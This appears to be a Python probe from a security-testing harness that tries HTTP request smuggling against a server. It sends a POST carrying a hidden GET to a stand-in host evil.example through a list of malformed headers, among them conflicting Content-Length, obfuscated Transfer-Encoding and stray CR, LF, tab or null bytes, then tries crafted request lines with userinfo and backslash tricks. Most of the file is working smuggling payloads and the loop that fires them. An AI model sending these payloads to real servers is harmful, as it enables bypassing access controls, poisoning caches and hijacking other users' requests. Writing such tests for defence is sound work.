"""Hides a request in another one, by every way two servers are known to read a message differently."""
from attack import *

START = b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n"
HIDDEN = b"GET http://api.example.com/hidden HTTP/1.1\r\nHost: evil.example\r\n\r\n"
HEADS = [b"Content-Length: 0\r\nContent-Length: 70\r\n\r\n", b"Content-Length: 70\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n", b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
         b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         b"X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", b"X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n", b"Content-Length: 0x46\r\n\r\n", b"Content-Length: 0, 70\r\n\r\n",
         b"Host: evil.example\r\n\r\n", b"X: \x00\r\n\r\n", b"\r\n"]
for head in HEADS[:-1]:
    if b"200" in say(START + head + HIDDEN)[:16]:
        succeeded(repr(head))
for line in (b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"GET http://api.example.com@evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
             b"GET http://evil.example\\@api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n", b"GET http://api.example.com:80:80/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
             b"GET  http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n", b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\n\n",
             b"GET /origin HTTP/1.1\r\nHost: api.example.com\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"):
    with connect() as sock:
        sock.settimeout(2)
        sock.sendall(line)
        if status(everything(sock)) == 200:
            succeeded(repr(line))
refused()
